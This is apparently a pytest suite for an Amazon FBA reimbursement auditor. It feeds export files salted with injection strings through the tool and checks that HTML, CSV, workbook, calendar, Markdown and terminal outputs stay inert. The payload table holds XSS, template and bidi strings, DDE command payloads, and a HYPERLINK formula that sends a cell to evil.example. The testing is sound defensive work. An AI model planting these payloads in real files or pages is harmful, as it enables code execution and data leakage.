"""Texts of exports that want to be scripts, formulas, markup, templates or commands, in everything that is written.

The same account is audited twice, with hostile and with harmless texts, and everything written must have the same
shape: what a hostile text adds to it, it did by being more than text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import icalendar
import pytest
from browsing import Visits
from click.testing import CliRunner
from markdown_it import MarkdownIt
from python_calamine import CalamineWorkbook
from samples import manifest, table

from auditor.cli import cli

HOSTILE = {
    "script": "<script>alert('x')</script>",
    "image": "<img src=x onerror=alert(1)>",
    "end": "</script></template></title><svg onload=alert(1)>",
    "comment": "<!-- --> ]]> <![CDATA[ x",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "entity": "&lt;b&gt; &amp;#60; &nbsp;&quot;'",
    "template": "{{ 7*7 }} {% for x in y %} ${7*7} {0.__class__} %(n)s %s",
    "markdown": "``` [x](javascript:alert(1)) | a | ![i](http://evil.example/i.png) ~~~ # h",
    "bidi": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f",
    "terminal": "\x1b[31mred\x1b[0m\x07\x9b2J",
    "lines": "one\r\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:http://evil.example",
    "separator": "a\u2028b\u2029c;d,e\\n:f",
    "wide": "＝１＋１ ＜ｓｃｒｉｐｔ＞",
    "zero": "zero\u200bwidth\ufeff mark",
    "long": "W" * 400,
}
NAMES = (
    "<img src=x onerror=alert(1)>.csv",
    "=HYPERLINK('x').csv",
    "\u202ecsv.exe {{ 7*7 }} & 'quoted'.csv",
    "{% raw %} %(n)s -2+3.csv",
)


def columns(text: str) -> list[str]:
    """The names of a header."""
    return text.split(",")


LEDGER = columns(
    "Date,FNSKU,ASIN,MSKU,Title,Event Type,Reference ID,Quantity,Fulfillment Center,Disposition,Reason,Country,"
    "Reconciled Quantity,Unreconciled Quantity,Date and Time,Store"
)
RETURNS = columns(
    "return-date,order-id,sku,asin,fnsku,product-name,quantity,fulfillment-center-id,detailed-disposition,reason,status,"
    "license-plate-number,customer-comments"
)
REIMBURSEMENTS = columns(
    "approval-date,reimbursement-id,case-id,amazon-order-id,reason,sku,fnsku,asin,product-name,condition,currency-unit,"
    "amount-per-unit,amount-total,quantity-reimbursed-cash,quantity-reimbursed-inventory,quantity-reimbursed-total,"
    "original-reimbursement-id,original-reimbursement-type"
)
COSTS = ["sku", "unit-cost", "currency", "effective-from"]
FORMULA = re.compile(r"[=+\-@\t\r\n]")
NUMBER = re.compile(r"-?[\d.,]+(?:e-?\d+)?")


@dataclass(frozen=True)
class Audited:
    """An account that was audited: its texts by name, and the results folder."""

    texts: Mapping[str, str]
    out: Path


def exports(folder: Path, texts: Mapping[str, str], names: tuple[str, ...]) -> None:
    """A loss, a damaged return and two payments of a product for each text, and one row that cannot be read."""
    ledger, returns, paid, costs = [], [], [], []
    for number, text in enumerate(texts.values()):
        product = {
            "FNSKU": f"X0{number:08}",
            "ASIN": f"B0{number:08}",
            "MSKU": f"{text} {number}",
            "Title": f"{text} title",
        }
        day = {"Country": "US", "Date": "05/20/2026", "Date and Time": "2026-05-20T00:00:00-0700", "Store": text}
        place = {"Fulfillment Center": "PHX7", "Disposition": "SELLABLE"}
        base = product | day | place
        ledger += [
            base | {"Event Type": "Receipts", "Reference ID": f"FBA{number:06}", "Quantity": "20"},
            base
            | {"Event Type": "Adjustments", "Reference ID": f"70{number:08}", "Quantity": "-2", "Reason": "M"}
            | {"Reconciled Quantity": "0", "Unreconciled Quantity": "2"},
        ]
        returns.append(
            {
                "return-date": "2026-05-21T10:00:00+00:00",
                "order-id": f"111-{number:07}-0000001",
                "sku": product["MSKU"],
                "asin": product["ASIN"],
                "fnsku": product["FNSKU"],
                "product-name": f"{text} title",
                "quantity": "1",
                "fulfillment-center-id": "PHX7",
                "detailed-disposition": "CARRIER_DAMAGED",
                "reason": "UNDELIVERABLE_CARRIER",
                "status": "Unit returned to inventory",
                "customer-comments": f"{text} comment",
            }
        )
        payment = {
            "case-id": text,
            "amazon-order-id": f"111-9{number:06}-0000002",
            "reason": "CustomerServiceIssue",
            "sku": product["MSKU"],
            "fnsku": product["FNSKU"],
            "product-name": f"{text} title",
            "condition": text,
            "currency-unit": "USD",
            "amount-per-unit": "4.00",
            "amount-total": "4.00",
            "quantity-reimbursed-cash": "1",
            "quantity-reimbursed-inventory": "0",
            "quantity-reimbursed-total": "1",
        }
        paid += [
            payment | {"approval-date": f"{when}T10:00:00+00:00", "reimbursement-id": f"9{number:03}{place}"}
            for place, when in enumerate(("2026-05-01", "2026-07-05"))
        ]
        costs.append({"sku": product["MSKU"], "unit-cost": "4.00", "currency": "USD", "effective-from": "2026-01-01"})
        ledger.append(base | {"Event Type": "Shipments", "Reference ID": "1", "Quantity": f"{text} bad"})
    for name, head, rows in zip(
        names, (LEDGER, RETURNS, REIMBURSEMENTS, COSTS), (ledger, returns, paid, costs), strict=True
    ):
        with (folder / name).open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, head, restval="", quoting=csv.QUOTE_ALL)
            writer.writeheader()
            writer.writerows(rows)


def audited(folder: Path, texts: Mapping[str, str], names: tuple[str, ...]) -> Audited:
    (folder / "exports").mkdir()
    exports(folder / "exports", texts, names)
    out = folder / "results"
    account = texts["script"]
    command = ["run", str(folder / "exports"), "--out", str(out), "--workspace", str(folder / "workspace"), "--redact"]
    run = CliRunner().invoke(cli, [*command, "--account", account])
    assert run.exit_code == 0, run.output
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", run.output)
    return Audited(texts, out)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Audited:
    return audited(tmp_path_factory.mktemp("hostile"), HOSTILE, NAMES)


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Audited:
    texts = {name: f"plain {name}" for name in HOSTILE}
    return audited(tmp_path_factory.mktemp("harmless"), texts, ("ledger.csv", "returns.csv", "paid.csv", "costs.csv"))


def words(text: str) -> str:
    """What can be seen of a text: no marks and controls, one space between words."""
    return " ".join(
        re.sub("[\x00-\x1f\x7f-\x9f\u200b\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]+", " ", text).split()
    )


def test_both_accounts_say_the_same(hostile: Audited, harmless: Audited) -> None:
    """The texts decide nothing: as many findings, units and rejects."""
    for name in ("totals", "rejects", "unit_balance"):
        first, second = (json.dumps(manifest(one.out)[name]) for one in (hostile, harmless))
        assert first == second
    rules = {row["rule"] for row in table(hostile.out / "findings.csv")}
    assert {"warehouse_lost", "return_damaged"} <= rules
    assert len(table(hostile.out / "rejects.csv")) == len(HOSTILE)


class Tags(HTMLParser):
    """The tags of a page with the names of their attributes, and its texts outside scripts."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.links: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag, tuple(sorted(name for name, _ in attrs))] += 1
        self.links |= {value or "" for name, value in attrs if name in {"href", "src", "action"}}


@pytest.mark.parametrize("name", ["summary.html", "summary-redacted.html"])
def test_the_page_gains_no_tag_no_attribute_and_no_link(hostile: Audited, harmless: Audited, name: str) -> None:
    first, second = (Tags((one.out / name).read_text("utf-8")) for one in (hostile, harmless))
    assert first.tags == second.tags
    assert not [link for link in first.links if "evil" in link or link.startswith("javascript")]


def test_the_redacted_page_names_no_title_no_comment_no_account_and_no_bad_cell(
    hostile: Audited, visit: Visits
) -> None:
    tab = visit(hostile.out / "summary-redacted.html")
    text = words(tab.evaluate("document.documentElement.textContent"))
    assert not [
        each
        for each in hostile.texts.values()
        for what in ("title", "comment", "bad")
        if words(f"{each} {what}") in text
    ]
    assert tab.locator("h1").inner_text() == "What Amazon owes you"


def test_in_a_browser_each_text_is_shown_as_text_and_nothing_runs(hostile: Audited, visit: Visits) -> None:
    tab = visit(hostile.out / "summary.html")
    tab.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    shown = {words(text) for text in tab.locator(".finding .product").all_inner_texts()}
    assert {words(f"{text} title") for text in hostile.texts.values()} == shown
    text = words(tab.evaluate("document.body.innerText"))
    assert "{{ 7*7 }} {% for x in y %}" in text
    assert words(HOSTILE["script"]) in words(tab.locator("h1").inner_text())
    tab.fill("#findings [data-search]", "<img")
    assert tab.locator(".finding:visible").count() >= 1
    assert tab.evaluate("document.documentElement.scrollWidth") <= 1280


def csv_cells(out: Path) -> Iterator[tuple[Path, str]]:
    for path in sorted(out.rglob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")):
            yield from ((path, cell) for cell in row)


def test_no_cell_is_a_formula_in_csv(hostile: Audited) -> None:
    bad = [
        (path.name, cell) for path, cell in csv_cells(hostile.out) if FORMULA.match(cell) and not NUMBER.fullmatch(cell)
    ]
    assert bad == []
    titles = {row["title"].removeprefix("'") for row in table(hostile.out / "findings.csv")}
    assert titles == {f"{text} title".replace("\r\n", "\n").strip("\t") for text in hostile.texts.values()}


def test_no_cell_is_a_formula_or_a_link_in_the_workbook(hostile: Audited, harmless: Audited) -> None:
    content = (hostile.out / "findings.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
    assert not [name for name, xml in parts.items() if "<f>" in xml or "<hyperlink" in xml]
    assert not [name for name, xml in parts.items() if name.endswith(".rels") and "evil.example" in xml]
    book, twin = (CalamineWorkbook.from_path(one.out / "findings.xlsx") for one in (hostile, harmless))
    assert book.sheet_names == twin.sheet_names
    for sheet in book.sheet_names:
        rows, twins = (each.get_sheet_by_name(sheet).to_python() for each in (book, twin))
        assert [len(row) for row in rows] == [len(row) for row in twins]
        cells = [cell for row in rows for cell in row if isinstance(cell, str)]
        assert [cell for cell in cells if FORMULA.match(cell) and not NUMBER.fullmatch(cell)] == []


def test_the_calendar_gains_no_line(hostile: Audited, harmless: Audited) -> None:
    shapes = []
    for one in (hostile, harmless):
        calendar = icalendar.Calendar.from_ical((one.out / "deadlines.ics").read_bytes())
        shapes.append([Counter((part.name, *sorted(part)) for part in calendar.walk())])
        assert len(calendar.walk("VEVENT")) == len(table(one.out / "findings.csv"))
    assert shapes[0] == shapes[1]


def markdown_shape(text: str) -> tuple[str, ...]:
    """What Markdown makes of a text, without its words."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(text)
    inside = (
        child.type for token in tokens for child in token.children or () if child.type not in {"text", "softbreak"}
    )
    return (*(token.type for token in tokens), *inside)


def test_the_drafts_keep_their_shape_and_their_names_are_plain(hostile: Audited, harmless: Audited) -> None:
    shapes = [
        Counter(markdown_shape(path.read_text("utf-8")) for path in (one.out / "claims").glob("*.md"))
        for one in (hostile, harmless)
    ]
    assert shapes[0] == shapes[1]
    names = [path.name for path in (hostile.out / "claims").iterdir()]
    assert all(re.fullmatch(r"[\w.-]+", name, re.ASCII) for name in names)
    for path in (hostile.out / "claims").glob("*.md"):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", path.read_text("utf-8"))


def test_the_terminal_gets_no_control_character(hostile: Audited) -> None:
    for finding in table(hostile.out / "findings.csv"):
        told = CliRunner().invoke(cli, ["explain", finding["finding_id"], "--out", str(hostile.out)])
        assert told.exit_code == 0
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", told.output)
